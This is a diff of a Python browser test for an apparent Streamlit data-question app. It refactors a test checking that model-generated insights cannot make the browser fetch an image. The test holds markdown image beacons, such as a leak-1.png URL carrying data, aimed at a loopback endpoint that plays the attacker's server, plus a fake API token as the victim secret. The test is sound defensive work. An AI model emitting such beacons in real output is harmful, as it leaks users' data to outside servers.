@@ -18,7 +18,6 @@ from tests.conftest import FAST_RETRIES
 from tests.support.apptest import ask, open_app
 from tests.support.fake_endpoint import FakeEndpoint
 from tests.support.scripted_model import ScriptedModel, fenced
-from tests.support.streamlit_server import running_app
 
 TOKEN = "hf_InjectionVictim0000001"
 INJECTIONS = [
@@ -107,7 +106,7 @@ def test_the_page_never_shows_the_token(endpoint: FakeEndpoint) -> None:
 
 
 @pytest.mark.browser
-def test_an_insight_cannot_make_the_browser_fetch_an_image(page, endpoint: FakeEndpoint) -> None:  # type: ignore[no-untyped-def]
+def test_an_insight_cannot_make_the_browser_fetch_an_image(page, owner_app: str, endpoint: FakeEndpoint) -> None:  # type: ignore[no-untyped-def]
     """The page is where an image would leak data: the loopback endpoint itself plays the attacker's server."""
     beacons = [
         f"![a[b]c]({endpoint.url}/leak-1.png?d=1707)",
@@ -121,20 +120,18 @@ def test_an_insight_cannot_make_the_browser_fetch_an_image(page, endpoint: FakeE
     model.on("per type", fenced(f'SELECT "magType" AS "{column_name}", count(*) AS n FROM earthquakes GROUP BY 1'))
     model.on("how many", fenced("SELECT count(*) AS n FROM earthquakes"))
     endpoint.responder = model
-    env = {"HUGGINGFACE_API_KEY": TOKEN, "HUGGINGFACE_ENDPOINT_URL": endpoint.url, "HUGGINGFACE_MODEL": "tgi"}
-    with running_app(env) as url:
-        page.goto(url)
-        box = page.get_by_placeholder("Ask a question about the data")
-        box.fill("How many earthquakes are there?")
+    page.goto(owner_app)
+    box = page.get_by_placeholder("Ask a question about the data")
+    box.fill("How many earthquakes are there?")
+    box.press("Enter")
+    page.get_by_text("There were 1,707 events.").first.wait_for()
+    page.get_by_text("Computed:").first.wait_for()  # the answer is complete before the next question
+    for number, question in enumerate(("Give the count as a metric", "How many per type?"), start=1):
+        box.fill(question)
         box.press("Enter")
-        page.get_by_text("There were 1,707 events.").first.wait_for()
-        page.get_by_text("Computed:").first.wait_for()  # the answer is complete before the next question
-        for number, question in enumerate(("Give the count as a metric", "How many per type?"), start=1):
-            box.fill(question)
-            box.press("Enter")
-            page.get_by_text("Computed:").nth(number).wait_for()
-        metric = page.locator("[data-testid='stMetric']").filter(has_text="leak-4.png").first
-        metric.wait_for()  # the label is shown as the text it is (an invisible word joiner keeps it from linking)
-        assert metric_label in metric.inner_text().replace("\u2060", "")
-        page.wait_for_timeout(1500)  # time for any image request to arrive
+        page.get_by_text("Computed:").nth(number).wait_for()
+    metric = page.locator("[data-testid='stMetric']").filter(has_text="leak-4.png").first
+    metric.wait_for()  # the label is shown as the text it is (an invisible word joiner keeps it from linking)
+    assert metric_label in metric.inner_text().replace("\u2060", "")
+    page.wait_for_timeout(1500)  # time for any image request to arrive
     assert not [r.path for r in endpoint.requests if "leak" in r.path]
